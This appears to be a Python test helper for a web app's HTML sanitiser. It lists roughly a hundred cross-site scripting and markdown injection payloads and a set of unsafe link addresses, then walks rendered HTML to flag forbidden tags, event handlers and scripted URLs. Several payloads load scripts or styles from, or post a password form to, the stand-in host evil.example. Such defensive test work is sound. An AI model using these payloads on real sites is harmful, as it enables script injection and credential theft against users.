"""Texts that want to become more than text, and a walk that finds out whether one did.

Every payload carries MARK; it may turn up in the words of a page and in the values of attributes
that only hold words, never as a tag, as the name of an attribute, or where a browser runs it.
"""

import re
from html.parser import HTMLParser
from pathlib import Path

from postmortems.rendering import safe_html

ROOT = Path(__file__).resolve().parents[2]

MARK = "pwn"
SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:")
BLANK = "".join(map(chr, range(33)))
PAYLOADS = [
    "<script>pwn(1)</script>",
    "<SCRIPT SRC=//evil.example/pwn.js></SCRIPT>",
    "<scr<script>ipt>pwn(1)</scr</script>ipt>",
    "<script\x0c>pwn(1)</script>",
    "</textarea><script>pwn(1)</script>",
    "</title><script>pwn(1)</script>",
    "--><script>pwn(1)</script><!--",
    "<![CDATA[<script>pwn(1)</script>]]>",
    "<img src=x onerror=pwn(1)>",
    "<img src='x' onerror='pwn(1)'//",
    "<img/src/onerror=pwn(1)>",
    '<img """><script>pwn(1)</script>">',
    "<image src=x onerror=pwn(1)>",
    "<svg onload=pwn(1)>",
    "<svg><script>pwn(1)</script></svg>",
    "<svg><a xlink:href='javascript:pwn(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=pwn(1) attributeName=x></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=pwn(1)>",
    "<math href='javascript:pwn(1)'>x</math>",
    "<iframe src='javascript:pwn(1)'></iframe>",
    "<iframe srcdoc='<script>pwn(1)</script>'></iframe>",
    "<object data='javascript:pwn(1)'></object>",
    "<embed src='javascript:pwn(1)'>",
    "<applet code=pwn></applet>",
    "<base href='//evil.example/pwn/'>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn(1)'>",
    "<link rel=stylesheet href='//evil.example/pwn.css'>",
    "<style>*{background:url(//evil.example/pwn)}</style>",
    "<style>@import '//evil.example/pwn';</style>",
    "<div style='background:url(javascript:pwn(1))'>x</div>",
    "<p style='position:fixed;inset:0' class=pwn id=pwn name=pwn>x</p>",
    "<body onload=pwn(1)>",
    "<details open ontoggle=pwn(1)>x</details>",
    "<video><source onerror=pwn(1)></video>",
    "<audio src=x onerror=pwn(1)></audio>",
    "<input autofocus onfocus=pwn(1)>",
    "<select autofocus onfocus=pwn(1)></select>",
    "<button formaction='javascript:pwn(1)'>x</button>",
    "<form action='//evil.example/pwn'><input name=password></form>",
    "<isindex action='javascript:pwn(1)'>",
    "<marquee onstart=pwn(1)>x</marquee>",
    "<a href='javascript:pwn(1)'>x</a>",
    "<a href='JaVaScRiPt:pwn(1)'>x</a>",
    "<a href=' &#14; javascript:pwn(1)'>x</a>",
    "<a href='java&#10;script:pwn(1)'>x</a>",
    "<a href='java\tscript:pwn(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;pwn(1)'>x</a>",
    "<a href='vbscript:pwn(1)'>x</a>",
    "<a href='data:text/html,<script>pwn(1)</script>'>x</a>",
    "<a href='//evil.example' target=_blank onclick=pwn(1)>x</a>",
    "<a href=x hx-get=/pwn hx-trigger=load data-hx-get=/pwn>x</a>",
    "<div hx-on::load='pwn(1)' data-rows data-confirm-leave x-init='pwn(1)'>x</div>",
    "[x](javascript:pwn(1))",
    "[x](JAVASCRIPT:pwn(1))",
    "[x](java\tscript:pwn(1))",
    "[x](&#x6A;avascript:pwn(1))",
    "[x](javascript&colon;pwn(1))",
    "[x](<javascript:pwn(1)>)",
    "[x](vbscript:pwn(1))",
    "[x](data:text/html;base64,cHdu 'pwn')",
    "[x][pwn]\n\n[pwn]: javascript:pwn(1)",
    "<javascript:pwn(1)>",
    "![x](javascript:pwn(1))",
    "![x](https://evil.example/pwn.png)",
    "![x](//evil.example/pwn.png)",
    "![x](x' onerror='pwn(1))",
    '![x"onerror="pwn(1)](y)',
    '[x](https://example.com/" onmouseover="pwn(1))',
    '[x](https://example.com "title\\" onclick=\\"pwn(1)")',
    "```pwn' onclick='pwn(1)\ncode\n```",
    '```"><img src=x onerror=pwn(1)>\ncode\n```',
    "# <img src=x onerror=pwn(1)>\n",
    "| <img src=x onerror=pwn(1)> | b |\n|---|---|\n| <script>pwn(1)</script> | d |",
    "> <script>pwn(1)</script>",
    "- <svg/onload=pwn(1)>",
    "{: onclick=pwn(1) }",
    "<p markdown=1 onclick=pwn(1)>**x**</p>",
    "<noscript><p title='</noscript><img src=x onerror=pwn(1)>'>",
    "<template><script>pwn(1)</script></template>",
    "<xmp><script>pwn(1)</script></xmp>",
    "<plaintext onload=pwn(1)>",
    "<!--[if gte IE 4]><script>pwn(1)</script><![endif]-->",
    "<?xml-stylesheet href='javascript:pwn(1)'?>",
    '"><script>pwn(1)</script>',
    "'><script>pwn(1)</script>",
    '" onfocus=pwn(1) autofocus x="',
    "' onfocus=pwn(1) autofocus x='",
    "`onfocus=pwn(1)`",
    "{{ pwn }}{% csrf_token %}{% load pwn %}",
    "${pwn} #{pwn} <%= pwn %>",
    "\ue000<script>pwn(1)</script>\ue001",
    "\u202e<script>pwn(1)</script>",
    "＜script＞pwn(1)＜/script＞",
    "%3Cscript%3Epwn(1)%3C/script%3E",
    "&lt;script&gt;pwn(1)&lt;/script&gt;",
    "\\x3cscript\\x3epwn(1)\\x3c/script\\x3e",
]
SHORT = [text for text in PAYLOADS if len(text) <= 60 and "\n" not in text]
ADDRESSES = [
    "javascript:pwn(1)",
    "JaVaScRiPt:pwn(1)",
    "java\tscript:pwn(1)",
    " javascript:pwn(1)",
    "\x01javascript:pwn(1)",
    "javascript://example.com/%0Apwn(1)",
    "vbscript:pwn(1)",
    "data:text/html,<script>pwn(1)</script>",
    "file:///etc/pwn",
    "httpx:pwn",
    "http:pwn",
    "https:javascript:pwn(1)",
    "//evil.example/pwn",
    "/\\evil.example/pwn",
]
"""Addresses that no link may lead to."""

SCRIPTS = ("/static/", "/admin/jsi18n/")
"""Where scripts of our own, and those of the admin, come from."""
RUN = {"script", "style", "iframe", "frame", "object", "embed", "applet", "base", "marquee"}
NEVER = RUN | {"math", "template", "xmp", "plaintext", "isindex", "image"}
LEADS = {"href", "src", "action", "formaction", "data", "poster", "xlink:href", "background"}
WORDS = {"value", "title", "alt", "aria-label", "content", "placeholder", "datetime"}
WORDS |= {"data-markdown"}
TAG = re.compile(r"<([a-z][a-z0-9-]*)")
WRITERS = [*ROOT.glob("templates/**/*.html"), *ROOT.glob("postmortems/templatetags/*.py")]
OWN = {tag for path in WRITERS for tag in TAG.findall(path.read_text())} | safe_html.TAGS
OWN |= {"input", "textarea", "select", "option", "optgroup"}
"""Tags that pages are made of."""


class Walk(HTMLParser):
    """Reads a page and notes in `found` what should not be there.

    `is_mail` bears the inline styles of a mail; `is_own` allows the tags that templates, widgets
    and rendered texts consist of, `only` the tags and attributes it names.
    """

    def __init__(self, *, is_mail=False, is_own=False, only=None):
        super().__init__(convert_charrefs=True)
        self.found, self.is_mail, self.is_own, self.only = [], is_mail, is_own, only

    def handle_starttag(self, tag, attrs):
        """Look at one tag and what it carries."""
        given = dict(attrs)
        own = tag == "script" and (given.get("src") or "").startswith(SCRIPTS)
        own = own or (tag == "template" and "data-row-template" in given)
        if (tag in NEVER and not own) or MARK in tag:
            self.found.append(f"<{tag}>")
        if self.is_own and tag not in OWN:
            self.found.append(f"<{tag}> stands in no template")
        if self.only is not None and tag not in self.only:
            self.found.append(f"<{tag}> is not allowed")
        if tag == "meta" and given.get("http-equiv"):
            self.found.append("<meta http-equiv>")
        for name, value in attrs:
            self._look_at(tag, name, value or "")

    def _look_at(self, tag, name, value):
        says = f"<{tag} {name}={value[:80]!r}>"
        if name.startswith(("on", "hx-on", "x-")) or name in ("srcdoc", "is", "ping"):
            self.found.append(says)
        if name == "style" and (not self.is_mail or MARK in value):
            self.found.append(says)
        if MARK in name or (MARK in value and name not in WORDS | LEADS):
            self.found.append(says)
        if name in LEADS and not is_safe(name, value):
            self.found.append(says)
        if self.only is not None and name not in self.only.get(tag, ()):
            self.found.append(f"{says} is not allowed")


def is_safe(name, address):
    """Whether an address in a page leads to the web, to a mailbox, or to ourselves."""
    # As browsers read it: nothing blank at its ends, no tabs or line breaks within.
    plain = re.sub("[\t\n\r]", "", address).strip(BLANK).lower()
    if name == "href":
        return not SCHEME.match(plain) or plain.startswith(("http://", "https://", "mailto:"))
    own = plain.startswith(("/", "#")) and not plain.startswith(("//", "/\\"))
    return not plain or own or plain.startswith(("data:image/png", "data:image/svg+xml;utf8,", "?"))


def strange(html, **options):
    """What in `html` came out of a text and should not have: a list of str."""
    walk = Walk(**options)
    walk.feed(html)
    walk.close()
    return walk.found
